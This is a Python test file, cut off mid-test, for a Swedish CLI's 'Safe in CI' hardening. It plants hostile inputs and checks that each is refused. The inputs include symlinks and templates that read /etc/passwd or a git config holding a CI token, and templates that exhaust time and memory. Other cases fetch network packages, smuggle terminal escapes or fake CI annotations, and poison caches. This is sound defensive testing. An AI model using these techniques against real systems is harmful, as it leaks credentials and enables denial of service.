"""Issue 17, "Safe in CI": each attack a pull request (or a careless `-o`) could make, made
through the CLI, and what stops it. All data invented. docs/security.md names these tests."""

from __future__ import annotations

import json
import os
import shutil
import signal
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from conftest import FIXTURES, run_cli
from helpers import git, program

from samverkan_cli.loading import reading
from samverkan_cli.loading.limits import DEFAULT_LIMITS
from samverkan_cli.speed import section_cache

AS_OF = "2022-06-01"


def _report(tree: Path, *extra: str | Path) -> str:
    result = run_cli("report", "--data", tree, "--as-of", AS_OF, *extra)
    assert result.exit_code in (0, 1), result.output  # 1: written, with the records' errors
    return result.output


# 4. `-o` writes where the user pointed.


def test_output_over_a_file_keeps_its_mode(tree: Path, tmp_path: Path) -> None:
    target = tmp_path / "rapport.md"
    target.write_text("gammalt")
    target.chmod(0o644)
    _report(tree, "-o", target)
    assert stat.S_IMODE(target.stat().st_mode) == 0o644
    assert target.read_text(encoding="utf-8").startswith("#")


def test_a_new_output_file_gets_the_umask_mode(tree: Path, tmp_path: Path) -> None:
    old = os.umask(0o027)
    try:
        _report(tree, "-o", tmp_path / "ny.md")
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "ny.md").stat().st_mode) == 0o640


def test_schema_output_gets_the_umask_mode(tmp_path: Path) -> None:
    old = os.umask(0o022)
    try:
        result = run_cli("schema", "-o", tmp_path / "scheman")
    finally:
        os.umask(old)
    assert result.exit_code == 0, result.output
    modes = {stat.S_IMODE(path.stat().st_mode) for path in (tmp_path / "scheman").iterdir()}
    assert modes == {0o644}


def test_output_through_a_symlink_replaces_its_target(tree: Path, tmp_path: Path) -> None:
    real = tmp_path / "verklig.md"
    real.write_text("gammalt")
    link = tmp_path / "länk.md"
    link.symlink_to(real)
    _report(tree, "-o", link)
    assert link.is_symlink()
    assert real.read_text(encoding="utf-8").startswith("#")


def test_output_to_a_fifo_writes_through_it(tree: Path, tmp_path: Path) -> None:
    fifo = tmp_path / "rör"
    os.mkfifo(fifo)
    received: list[bytes] = []

    def read() -> None:
        with open(fifo, "rb") as handle:
            received.append(handle.read())

    reader = threading.Thread(target=read)
    reader.start()
    _report(tree, "-o", fifo)
    reader.join(timeout=10)
    assert stat.S_ISFIFO(fifo.lstat().st_mode)
    assert received and received[0].startswith(b"#")


def test_output_to_a_character_device_writes_through_it(tree: Path, tmp_path: Path) -> None:
    # As root a node of our own (a regression must not destroy the machine's /dev/null).
    device = Path("/dev/null")
    if os.geteuid() == 0:
        device = tmp_path / "null"
        os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    before = os.stat(device)
    _report(tree, "-o", device)
    after = os.stat(device)
    assert stat.S_ISCHR(after.st_mode) and after.st_ino == before.st_ino


def test_output_to_dev_stdout_writes_to_standard_output(
    tree: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    _report(tree, "-o", "/dev/stdout")
    _report(tree, "-o", "/proc/self/fd/1")
    expected = _report(tree)
    assert capfd.readouterr().out == expected * 2  # each at the descriptor's own offset


def test_output_stays_atomic_for_a_regular_file(tree: Path, tmp_path: Path) -> None:
    target = tmp_path / "rapport.md"
    target.write_text("gammalt")
    inode = target.stat().st_ino
    _report(tree, "-o", target)
    assert target.stat().st_ino != inode  # replaced by rename, not rewritten in place
    assert sorted(path.name for path in tmp_path.iterdir() if path.is_file()) == ["rapport.md"]


# 5. The data tree.


def _samverkan(*args: str | Path, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    """The CLI in a process of its own, for an attack that could hang it."""
    return subprocess.run(
        [sys.executable, "-m", "samverkan_cli", *map(str, args)],
        capture_output=True,
        text=True,
        timeout=timeout,
        check=False,
    )


def _diagnostics(tree: Path) -> list[dict[str, object]]:
    result = run_cli("validate", "--data", tree, "--format", "json")
    found: list[dict[str, object]] = json.loads(result.output)["diagnostics"]
    return found


def test_a_file_link_out_of_the_data_tree_is_an_error_and_never_read(
    tree: Path, tmp_path: Path
) -> None:
    secret = tmp_path / "hemligt.yaml"
    secret.write_text("token: ghp_HEMLIGT\nid: hemligt\n")
    (tree / "areas" / "stulen.yaml").symlink_to(secret)
    found = _diagnostics(tree)
    assert [
        (d["path"], d["line"], d["column"], d["severity"])
        for d in found
        if d["code"] == "symlink-outside"
    ] == [(str(tree / "areas" / "stulen.yaml"), 1, 1, "error")]
    everything = json.dumps(found) + _report(tree)
    assert "HEMLIGT" not in everything and "hemligt" not in everything.replace("hemligt.yaml", "")
    assert run_cli("validate", "--data", tree).exit_code == 1


def test_a_relative_link_out_of_the_tree_is_refused_too(tree: Path) -> None:
    (tree / "areas" / "passwd.yaml").symlink_to("../../../../../../../../etc/passwd")
    assert ("symlink-outside", "error") in {(d["code"], d["severity"]) for d in _diagnostics(tree)}
    assert "root:" not in json.dumps(_diagnostics(tree))


def test_a_link_inside_the_tree_is_still_read(tree: Path) -> None:
    (tree / "notes").mkdir()
    (tree / "notes" / "a.txt").write_text("x")
    (tree / "notes" / "b.txt").symlink_to(tree / "notes" / "a.txt")
    assert not [d for d in _diagnostics(tree) if d["code"] == "symlink-outside"]


@pytest.mark.parametrize("command", ["validate", "status", "report"])
def test_a_fifo_in_the_data_tree_is_skipped_without_opening_it(tree: Path, command: str) -> None:
    os.mkfifo(tree / "areas" / "rör.yaml")
    os.mkfifo(tree / "rör")
    (tree / "areas" / "länk.yaml").symlink_to(tree / "rör")
    as_of = [] if command == "validate" else ["--as-of", AS_OF]
    completed = _samverkan(command, "--data", tree, *as_of, timeout=30)
    assert completed.returncode == 0, completed.stderr
    if command == "validate":
        assert completed.stdout.count("not-a-file") == 3


def test_a_socket_in_the_data_tree_is_skipped(tree: Path) -> None:
    import socket

    place = tree / "areas" / "s.yaml"
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind(str(place))
        codes = {(Path(str(d["path"])).name, d["code"], d["severity"]) for d in _diagnostics(tree)}
    assert ("s.yaml", "not-a-file", "warning") in codes


# 6. A git revision is read from git's objects.


@pytest.fixture
def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A repository with the fixture tree committed, as the current directory."""
    root = tmp_path / "repo"
    root.mkdir()
    git(root, "init", "-q", "-b", "main")
    shutil.copytree(FIXTURES / "minimal", root / "data")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "Poster")
    monkeypatch.chdir(root)
    return root


def _commit(repo: Path, message: str) -> None:
    git(repo, "add", "-A", "-f")
    git(repo, "commit", "-q", "-m", message)


def test_export_ignore_cannot_hide_records_at_a_revision(repo: Path) -> None:
    promise = repo / "data/promises/centrum/centrum-2022.yaml"
    promise.write_text(promise.read_text().replace("year: 2022", "year: tjugo"))
    (repo / ".gitattributes").write_text("data/promises/** export-ignore\n")
    _commit(repo, "Dölj")
    working = run_cli("validate", "--format", "json")
    at_head = run_cli("validate", "--rev", "HEAD", "--format", "json")
    assert working.exit_code == at_head.exit_code == 1
    assert json.loads(at_head.output) == json.loads(working.output)
    diff = run_cli("diff", "HEAD~1", "HEAD", "--as-of", AS_OF)
    assert "borttagen" not in diff.output and "ogiltig" in diff.output


def test_export_subst_cannot_rewrite_a_record(repo: Path) -> None:
    promise = repo / "data/promises/centrum/centrum-2022.yaml"
    text = promise.read_text()
    assert "\ntitle: " in text
    promise.write_text(text.replace("\ntitle: ", "\ntitle: $Format:%H %ae$ ", 1))
    (repo / ".gitattributes").write_text("*.yaml export-subst\n")
    _commit(repo, "Byt")
    report = run_cli("report", "promise", "centrum-2022", "--rev", "HEAD", "--as-of", AS_OF)
    assert report.exit_code == 0, report.output
    assert "Format:%H %ae" in report.output and "example.invalid" not in report.output


def test_a_committed_link_to_the_git_config_is_refused_at_the_revision(repo: Path) -> None:
    (repo / ".git" / "config").write_text(
        (repo / ".git" / "config").read_text() + '[http]\n\textraheader = "AUTHORIZATION: x"\n'
    )
    (repo / "data/areas/konfig.yaml").symlink_to("../../.git/config")
    _commit(repo, "Länk")
    for at_rev in ([], ["--rev", "HEAD"]):
        result = run_cli("validate", *at_rev, "--format", "json")
        assert "symlink-outside" in result.output and "AUTHORIZATION" not in result.output
    diff = run_cli("diff", "HEAD~1", "HEAD", "--format", "md", "--as-of", AS_OF)
    assert "AUTHORIZATION" not in diff.output


def test_a_huge_blob_is_refused_before_it_is_read(repo: Path) -> None:
    (repo / "data/areas/stor.yaml").write_bytes(b"#" * (200 * 1024 * 1024))
    _commit(repo, "Stor")
    (repo / "data/areas/stor.yaml").unlink()
    # A wrapper process measures the largest memory of samverkan and the git it starts.
    wrapper = (
        "import resource, subprocess, sys\n"
        "done = subprocess.run([sys.executable, '-m', 'samverkan_cli', 'validate', '--rev',"
        " 'HEAD', '--format', 'json'], capture_output=True, text=True)\n"
        "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)\n"
        "print(done.stdout)\n"
    )
    completed = subprocess.run(
        [sys.executable, "-c", wrapper], capture_output=True, text=True, timeout=120, check=True
    )
    peak_kib, output = completed.stdout.split("\n", 1)
    found = {(Path(d["path"]).name, d["code"]) for d in json.loads(output)["diagnostics"]}
    assert ("stor.yaml", "file-too-large") in found
    assert "209715200 byte" in output
    assert int(peak_kib) < 150 * 1024, peak_kib  # the blob is 200 MiB


# 1. The section cache.


def _overview(tree: Path, *, cache: bool = True) -> str:
    with pytest.MonkeyPatch.context() as patch:
        if not cache:
            patch.setenv("SAMVERKAN_CACHE", "0")
        return _report(tree)


def test_a_cache_file_committed_into_the_data_tree_has_no_effect(tree: Path) -> None:
    expected = _overview(tree, cache=False)
    _overview(tree)
    (kept,) = section_cache.tree_directory(tree).glob("overview-*")
    forged = kept.read_bytes().replace(b"Otrygga platser", b"INJICERAT lofte")
    assert forged != kept.read_bytes()
    kept.unlink()
    # Where the cache used to be, and where a pull request can put files: in the tree.
    for name in (kept.name, "overview-" + "0" * 32):
        (tree / ".samverkan-cache").mkdir(exist_ok=True)
        (tree / ".samverkan-cache" / name).write_bytes(forged)
    assert _overview(tree) == expected
    assert _overview(tree) == expected


def test_a_symlinked_cache_directory_in_the_tree_writes_nothing(tree: Path) -> None:
    (tree / ".samverkan-cache").symlink_to(".")
    before = sorted(str(path) for path in tree.rglob("*"))
    _overview(tree)
    _overview(tree)
    assert sorted(str(path) for path in tree.rglob("*")) == before
    assert not (tree / ".gitignore").exists()


def test_the_cache_is_never_followed_through_a_symlink(tree: Path, tmp_path: Path) -> None:
    expected = _overview(tree, cache=False)
    elsewhere = tmp_path / "annanstans"
    elsewhere.mkdir()
    directory = section_cache.tree_directory(tree)
    directory.parent.mkdir(parents=True)
    directory.symlink_to(elsewhere, target_is_directory=True)
    assert _overview(tree) == expected
    assert _overview(tree) == expected
    assert list(elsewhere.iterdir()) == []


def test_two_data_trees_never_share_entries(tree: Path, tmp_path: Path) -> None:
    other = tmp_path / "annan"
    shutil.copytree(tree, other)
    _overview(tree)
    _overview(other)
    assert section_cache.tree_directory(tree) != section_cache.tree_directory(other)
    for root in (tree, other):
        assert len(list(section_cache.tree_directory(root).glob("overview-*"))) == 1


def test_a_record_changed_during_a_run_is_kept_under_its_own_bytes(
    tree: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    area = tree / "organisations" / "lpo-centrum.yaml"
    before = area.read_text(encoding="utf-8")
    after = before.replace("Lokalpolisområde Centrum", "Nya Centrum")
    expected_before = _overview(tree, cache=False)
    read_limited = reading.read_limited
    changed: list[str] = []

    def changing(path: str, max_bytes: int) -> bytes | None:
        found = read_limited(path, max_bytes)
        if path == str(area) and not changed:  # changed on disk right after the first read
            changed.append(path)
            area.write_text(after, encoding="utf-8")
        return found

    monkeypatch.setattr(reading, "read_limited", changing)
    assert _overview(tree) == expected_before  # what was hashed is what was rendered
    assert changed
    monkeypatch.setattr(reading, "read_limited", read_limited)
    assert _overview(tree) == _overview(tree, cache=False)  # the new version, made afresh
    area.write_text(before, encoding="utf-8")
    assert _overview(tree) == expected_before


# 1b. The kept results of validate.


def _validated(tree: Path, *, cache: bool = True) -> tuple[int, str]:
    with pytest.MonkeyPatch.context() as patch:
        if not cache:
            patch.setenv("SAMVERKAN_CACHE", "0")
        result = run_cli("validate", "--data", tree, "--format", "json")
    return result.exit_code, result.output


def _forged_result(tree: Path) -> tuple[Path, bytes]:
    """The file the tree's result is kept in, and a forgery of it that says all is well."""
    from samverkan_cli.speed import result_cache

    (tree / "areas" / "norra.yaml").write_text("namn: x\n", encoding="utf-8")
    _validated(tree)
    (kept,) = section_cache.tree_directory(tree).glob("validate-*")
    document = json.loads(kept.read_bytes().partition(b"\n")[2])
    document["diagnostics"] = []
    magic = b"samverkan-validate %d\n" % result_cache.FORMAT
    return kept, magic + json.dumps(document).encode("ascii")


def test_a_validate_result_committed_into_the_data_tree_has_no_effect(tree: Path) -> None:
    kept, forged = _forged_result(tree)
    kept.unlink()
    (tree / ".samverkan-cache").mkdir()
    (tree / ".samverkan-cache" / kept.name).write_bytes(forged)
    code, output = _validated(tree)
    assert code == 1 and (code, output) == _validated(tree, cache=False)
    assert _validated(tree) == (code, output)


def test_a_poisoned_cache_directory_cannot_change_what_validate_says(
    tree: Path, tmp_path: Path
) -> None:
    kept, forged = _forged_result(tree)
    expected = _validated(tree, cache=False)
    assert expected[0] == 1
    directory = kept.parent
    # The entry itself a link to a forgery.
    (tmp_path / "forged").write_bytes(forged)
    kept.unlink()
    kept.symlink_to(tmp_path / "forged")
    assert _validated(tree) == expected
    # The tree's directory a link to another's, which holds the forgery.
    shutil.rmtree(directory)
    elsewhere = tmp_path / "annanstans"
    elsewhere.mkdir(mode=0o700)
    (elsewhere / kept.name).write_bytes(forged)
    directory.symlink_to(elsewhere, target_is_directory=True)
    assert _validated(tree) == expected
    assert [path.name for path in elsewhere.iterdir()] == [kept.name]
    # A directory others may write to.
    directory.unlink()
    directory.mkdir(mode=0o700)
    (directory / kept.name).write_bytes(forged)
    directory.chmod(0o777)
    assert _validated(tree) == expected
    # A forgery in our own directory that is not for this key, or is not a result at all.
    directory.chmod(0o700)
    document = json.loads(forged.partition(b"\n")[2])
    document["key"] = "0" * 40
    (directory / kept.name).write_bytes(
        forged.partition(b"\n")[0] + b"\n" + json.dumps(document).encode()
    )
    assert _validated(tree) == expected
    for garbage in (
        b"",
        b"samverkan-validate 1\n[",
        b"\xff" * 64,
        b"samverkan-validate 1\n" + b"[" * 5000,
    ):
        (directory / kept.name).write_bytes(garbage)
        assert _validated(tree) == expected


# 7. Text that stays text.

PROMISE = Path("promises/centrum/centrum-2022.yaml")


def _replace(tree: Path, old: bytes, new: bytes) -> None:
    path = tree / PROMISE
    raw = path.read_bytes()
    assert old in raw
    path.write_bytes(raw.replace(old, new, 1))


@pytest.mark.parametrize(
    "written",
    [
        b'"Otrygga \\u001b[8mplatser"',  # the terminal hides what follows
        b'"Otrygga \\e]8;;http://x\\aplatser"',
        b'"Otrygga \\u202eplatser"',  # bidi override, as an escape
        "Otrygga \u202eplatser".encode(),  # and raw
        b'"Otrygga \\x85platser"',  # C1 next line
        b'"Otrygga \\rplatser"',
    ],
)
def test_control_characters_in_text_are_refused_at_their_place(tree: Path, written: bytes) -> None:
    _replace(tree, b"title: Otrygga platser", b"title: " + written)
    found = _diagnostics(tree)
    assert [(d["code"], d["line"], d["column"]) for d in found] == [("control-character", 11, 12)]
    assert "vid tecken 9" in str(found[0]["message"])
    report = run_cli("report", "--data", tree, "--as-of", AS_OF)
    assert not any(
        character in report.output for character in ("\x1b", "\u202e", "\x85", "\x07", "\r")
    )


def test_a_bare_carriage_return_cannot_start_a_heading_in_the_report(tree: Path) -> None:
    _replace(
        tree,
        b"description: Trygghetsvandring vid torget.",
        b"description: |\r      Vandring.\r      # Falsk rubrik\r      - falsk punkt\r",
    )
    assert not [d for d in _diagnostics(tree) if d["severity"] == "error"]
    lines = _report(tree, "promise", "centrum-2022").splitlines()
    assert not any(line.startswith(("# Falsk", "- falsk")) for line in lines)


def test_a_blank_line_in_a_value_stays_in_its_diff_item(repo: Path) -> None:
    path = repo / "data" / PROMISE
    path.write_text(
        path.read_text().replace(
            "description: Trygghetsvandring vid torget.",
            'description: "Vandring.\\n\\n## Godkänd av polisen\\n\\n- [x] allt klart"',
        )
    )
    result = run_cli("diff", "--format", "md", "--as-of", AS_OF)
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert not any(line.startswith(("#", "- [x]", "- \\[x")) for line in lines[1:])
    assert all(line.startswith(("- ", "  - ", "| ")) or not line for line in lines[2:])


def test_a_newline_in_a_file_name_stays_on_its_diagnostic_line(tree: Path) -> None:
    (tree / "areas" / "x\n::error file=README.md::falskt\n.yml").write_text("x: 1\n")
    result = run_cli("validate", "--data", tree)
    assert not any(line.startswith("::") for line in result.output.splitlines())
    assert "x\\n::error file=README.md::falskt\\n.yml:1:1: warning[unknown-file]" in result.output


# 8. The personnummer guard scans parsed values.


@pytest.mark.parametrize(
    "written",
    [
        b'"Vandring 850709\\u002d1232."',  # a YAML escape
        b'"Vandring 850709\\\n      -1232."',  # an escaped line break
        b">\n      Vandring 850709-\n      1232.",  # folded
        "Vandring ８５０７０９-１２３２.".encode(),  # full-width digits
        "Vandring 850709\u00a0-\u00a01232.".encode(),  # no-break spaces
        b"Vandring 850709\n\n      1232.",  # folded across a blank line
        b"Vandring 850709\r      1232.",  # folded at a bare CR
        "Vandring 850709-\u200b1232.".encode(),  # a zero-width space
        "Vandring 850709\u00ad-1232.".encode(),  # a soft hyphen
        b"Vandring 850709.1232.",  # a dot
        b"Vandring 850709/1232.",  # a slash
        b"|\n      Vandring 850709-1232 # samverkan: allow-personnummer",  # marker in a value
        b'"Vandring\n      850709-1232 # samverkan: allow-personnummer"',  # in a quoted value
    ],
)
def test_a_disguised_personnummer_is_found_and_not_printed(tree: Path, written: bytes) -> None:
    _replace(tree, b"description: Trygghetsvandring vid torget.", b"description: " + written)
    found = [d for d in _diagnostics(tree) if d["code"] == "personnummer"]
    assert [(d["line"], d["severity"]) for d in found] == [(23, "error")]
    report = _report(tree)
    assert "1232" not in report and "１２３２" not in report


def test_the_allow_marker_counts_only_in_a_comment(tree: Path) -> None:
    _replace(
        tree,
        b"description: Trygghetsvandring vid torget.",
        b'description: "850709-1232 samverkan: allow-personnummer"',
    )
    assert "personnummer" in {d["code"] for d in _diagnostics(tree)}
    _replace(
        tree,
        b'description: "850709-1232 samverkan: allow-personnummer"',
        b'description: "850709-1232" # samverkan: allow-personnummer',
    )
    assert "personnummer" not in {d["code"] for d in _diagnostics(tree)}


# 2. Templates stay in their folder.


def _user_template(tree: Path, name: str, text: str) -> Path:
    """A template in the templates/ folder beside the data, as a pull request can add it."""
    folder = tree.parent / "templates"
    folder.mkdir(exist_ok=True)
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return path


def _typst_reading(path: str) -> str:
    return (
        f'#set document(title: "x")\n#set text(lang: "sv")\n#let found = read("{path}")\n#found\n'
    )


@pytest.mark.parametrize("target", ["/etc/passwd", ".git/config", "../.git/config"])
def test_a_typst_template_cannot_read_files_outside_its_private_root(
    tree: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, target: str
) -> None:
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "config").write_text("[http]\n\textraheader = AUTHORIZATION: hemlig\n")
    monkeypatch.chdir("/" if target.startswith("/") else tmp_path)  # CI runs from the checkout
    _user_template(tree, "areas.typ.j2", _typst_reading(target))
    out = tmp_path / "ut.pdf"
    result = run_cli("report", "areas", "--data", tree, "--format", "pdf", "-o", out)
    assert result.exit_code == 2, result.output
    assert "hemlig" not in result.output and "root:" not in result.output
    assert not out.exists()


def test_a_typst_image_outside_the_root_is_not_found(tree: Path, tmp_path: Path) -> None:
    picture = tmp_path / "bild.svg"
    picture.write_text('<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>')
    _user_template(
        tree,
        "areas.typ.j2",
        f'#set document(title: "x")\n#set text(lang: "sv")\n#image("{picture}", alt: "x")\n',
    )
    result = run_cli("report", "areas", "--data", tree, "--format", "pdf", "-o", tmp_path / "u")
    assert result.exit_code == 2, result.output
    assert "Typst" in result.output


def test_a_typst_template_cannot_fetch_a_package_from_the_network(
    tree: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`#import "@preview/…"` would download a package, and the package's name could carry
    data out. The template is compiled in the confined child, which here is given a proxy that
    listens (a download would connect to it, as it would to the network): it sees nobody."""
    import socket

    from samverkan_cli.output.documents import confined

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    listener.settimeout(0.5)
    proxy = f"http://127.0.0.1:{listener.getsockname()[1]}"
    plain = confined._child_environment
    monkeypatch.setattr(confined, "_child_environment", lambda: {**plain(), "HTTPS_PROXY": proxy})
    _user_template(
        tree,
        "areas.typ.j2",
        '#import "@preview/hemligt-paket:0.1.0": *\n#set document(title: "x")\n',
    )
    result = run_cli("report", "areas", "--data", tree, "--format", "pdf", "-o", tmp_path / "u")
    assert result.exit_code == 2, result.output
    assert "hämtar inga Typst-paket" in result.output
    with pytest.raises(TimeoutError):
        listener.accept()
    listener.close()


@pytest.mark.parametrize("include", [False, True])
def test_a_template_linked_out_of_its_folder_is_refused(
    tree: Path, tmp_path: Path, include: bool
) -> None:
    secret = tmp_path / "miljö"
    secret.write_text("CI_TOKEN=hemlig\n")
    folder = tree.parent / "templates"
    folder.mkdir()
    if include:
        (folder / "areas.md.j2").write_text('{% include "env.md.j2" %}\n')
    (folder / ("env.md.j2" if include else "areas.md.j2")).symlink_to(secret)
    result = run_cli("report", "areas", "--data", tree, "--as-of", AS_OF)
    assert result.exit_code == 2, result.output
    assert "hemlig" not in result.output
    assert "länk som leder ut ur mallkatalogen" in result.output


def test_a_templates_folder_linked_out_of_the_checkout_is_refused(
    tree: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    outside = tmp_path_factory.mktemp("utanför")
    (outside / "areas.md.j2").write_text("hemlig\n")
    (tree.parent / "templates").symlink_to(outside)
    result = run_cli("report", "areas", "--data", tree, "--as-of", AS_OF)
    assert result.exit_code == 2, result.output
    assert "hemlig" not in result.output and "är en symbolisk länk" in result.output


@pytest.mark.parametrize("target", [".", "data/.."], ids=["checkout", "checkout-by-a-detour"])
def test_a_templates_folder_linked_to_the_checkout_cannot_include_its_git_config(
    tmp_path: Path, target: str
) -> None:
    """A pull request links templates/ to the checkout itself, whose .git/config holds CI's
    token, and includes it from an overview template at the top."""
    repo = tmp_path / "repo"
    shutil.copytree(FIXTURES / "minimal", repo / "data")
    git(repo, "init", "-q", "-b", "main")
    git(repo, "config", "http.extraheader", "AUTHORIZATION: basic SECRETTOKEN123")
    (repo / "templates").symlink_to(target)
    (repo / "overview.md.j2").write_text('{% include ".git/config" %}\n')
    result = run_cli("report", "--data", repo / "data", "--as-of", AS_OF)
    assert result.exit_code == 2, result.output
    assert "SECRETTOKEN123" not in result.output


def test_a_hidden_file_is_never_a_template(tree: Path) -> None:
    folder = tree.parent / "templates"
    (folder / ".git").mkdir(parents=True)
    (folder / ".git" / "config").write_text("SECRETTOKEN123\n")
    (folder / "areas.md.j2").write_text('{% include ".git/config" %}\n')
    result = run_cli("report", "areas", "--data", tree, "--as-of", AS_OF)
    assert result.exit_code == 2
    assert "SECRETTOKEN123" not in result.output and "dold fil" in result.output


def test_a_fifo_as_a_template_is_refused_without_opening_it(tree: Path) -> None:
    folder = tree.parent / "templates"
    folder.mkdir()
    os.mkfifo(folder / "areas.md.j2")
    result = _samverkan("report", "areas", "--data", tree, "--as-of", AS_OF, timeout=30)
    assert result.returncode == 2, result.stderr
    assert "ingen vanlig fil" in result.stderr


# 3. Limits that cannot be swallowed.

_TYPST_HEAD = '#set document(title: "x")\n#set text(lang: "sv")\n'


@pytest.mark.parametrize(
    ("name", "template", "message"),
    [
        ("areas.md.j2", "{{ 10 ** (10 ** 7) }}\n", "talet blir för stort"),
        ("areas.md.j2", "{{ 7 * 7 ** 100000 }}\n", "talet blir för stort"),
        ("areas.md.j2", '{{ "x" * 10**9 }}\n', "för lång i sandlådan"),
        ("areas.md.j2", "{{ [1] * 10**9 }}\n", "för lång i sandlådan"),
        ("areas.md.j2", "{% for i in range(10**12) %}{% endfor %}\n", "range() är för stor"),
        (
            "areas.md.j2",
            "{% for i in range(10**5) %}{% for j in range(10**5) %}{% endfor %}{% endfor %}\n",
            "längre tid än 1 s",
        ),
        ("areas.md.j2", '{{ "x".ljust(4 * 10**9) }}\n', "mer minne"),
        ("areas.typ.j2", _TYPST_HEAD + "#let f(n) = f(n + 1)\n#f(0)\n", "call depth"),
        ("areas.typ.j2", _TYPST_HEAD + "#while true { }\n", "always true"),
        (
            "areas.typ.j2",
            _TYPST_HEAD + "#for i in range(100000) { for j in range(100000) { } }\n",
            "längre tid än 1 s",
        ),
        ("areas.typ.j2", _TYPST_HEAD + "#let a = range(10000000000)\n", "minne"),
    ],
)
def test_a_user_template_runs_under_limits_it_cannot_swallow(
    tree: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    name: str,
    template: str,
    message: str,
) -> None:
    # Where the memory limit is to stop it, the time limit must not win the race on a busy
    # machine.
    seconds = 10 if "minne" in message else 1
    monkeypatch.setenv("SAMVERKAN_TEMPLATE_SECONDS", str(seconds))
    monkeypatch.setenv("SAMVERKAN_TEMPLATE_MEGABYTES", "300")
    _user_template(tree, name, template)
    pdf = ("--format", "pdf", "-o", tmp_path / "ut.pdf") if name.endswith(".typ.j2") else ()
    started = time.monotonic()
    result = run_cli("report", "areas", "--data", tree, "--as-of", AS_OF, *pdf)
    assert time.monotonic() - started < seconds + 7
    assert result.exit_code == 2, result.output
    assert message in result.output


def _children_of(pid: int) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if int(fields[1]) == pid:
                found.append(int(entry.name))
    return found


def _alive(pid: int) -> bool:
    try:
        state = (Path("/proc") / str(pid) / "stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
def test_ctrl_c_stops_a_user_template_at_once(tree: Path) -> None:
    _user_template(
        tree,
        "areas.md.j2",
        "{% for i in range(10**5) %}{% for j in range(10**5) %}{% endfor %}{% endfor %}\n",
    )
    process = subprocess.Popen(
        [sys.executable, "-m", "samverkan_cli", "report", "areas", "--data", str(tree)],
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, "SAMVERKAN_TEMPLATE_SECONDS": "120"},
        # as a user's terminal starts it: a test run in the background (`&`, nohup) ignores
        # SIGINT, and a child would inherit that
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),
    )
    try:
        deadline = time.monotonic() + 30
        while not (children := _children_of(process.pid)) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert children, "the template never started in a child process"
        time.sleep(0.3)
        process.send_signal(signal.SIGINT)
        started = time.monotonic()
        _, err = process.communicate(timeout=10)
        assert time.monotonic() - started < 3
    finally:
        process.kill()
    assert process.returncode == 130, err
    assert not any(_alive(child) for child in children)


# 10. Signals and output errors.


def _many_promises(tree: Path, count: int) -> None:
    """`count` promises more: enough that a second process is forked."""
    text = (tree / PROMISE).read_text(encoding="utf-8")
    folder = tree / "promises" / "många"
    folder.mkdir()
    for number in range(count):
        (folder / f"centrum-{3000 + number}.yaml").write_text(
            text.replace("centrum-2022", f"centrum-{3000 + number}"), encoding="utf-8"
        )


@pytest.mark.skipif(
    not sys.platform.startswith("linux") or (os.cpu_count() or 1) < 2,
    reason="the second process is forked on Linux with two cores or more",
)
def test_sigterm_stops_the_second_process_at_once(tree: Path) -> None:
    _many_promises(tree, 4000)
    environment = {k: v for k, v in os.environ.items() if k != "SAMVERKAN_PROCESSES"}
    process = subprocess.Popen(
        [sys.executable, "-m", "samverkan_cli", "validate", "--data", str(tree)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        env=environment,
    )
    try:
        deadline = time.monotonic() + 60
        while not (children := _children_of(process.pid)) and time.monotonic() < deadline:
            time.sleep(0.01)
        assert children, "no second process was forked"
        process.send_signal(signal.SIGTERM)
        process.wait(timeout=10)
        time.sleep(0.2)
    finally:
        process.kill()
    assert process.returncode == -signal.SIGTERM
    assert not any(_alive(child) for child in children)


def _closed_pipe() -> int:
    read, write = os.pipe()
    os.close(read)
    return write


@pytest.mark.parametrize("command", [("report",), ("validate",), ("status", "--as-of", AS_OF)])
def test_a_closed_pipe_is_an_output_error(tree: Path, command: tuple[str, ...]) -> None:
    write = _closed_pipe()
    try:
        result = subprocess.run(
            [sys.executable, "-m", "samverkan_cli", *command, "--data", str(tree)],
            stdout=write,
            stderr=subprocess.PIPE,
            text=True,
            timeout=60,
            check=False,
        )
    finally:
        os.close(write)
    assert result.returncode == 2, result.stderr
    assert "kan inte skriva till standard ut: den som läste slutade läsa" in result.stderr
    assert "internt fel" not in result.stderr and "Traceback" not in result.stderr


def _full_device(tmp_path: Path) -> Path:
    """A node of our own that behaves as /dev/full (never the machine's own)."""
    device = tmp_path / "full"
    os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 7))
    return device


@pytest.mark.skipif(os.geteuid() != 0, reason="mknod needs root")
@pytest.mark.parametrize("to_stdout", [False, True])
def test_a_full_disk_is_an_output_error(tree: Path, tmp_path: Path, to_stdout: bool) -> None:
    device = _full_device(tmp_path)
    with open(device, "wb") as full:
        result = subprocess.run(
            [sys.executable, "-m", "samverkan_cli", "report", "--data", str(tree)]
            + ([] if to_stdout else ["-o", str(device)]),
            stdout=full if to_stdout else subprocess.DEVNULL,
            stderr=subprocess.PIPE,
            text=True,
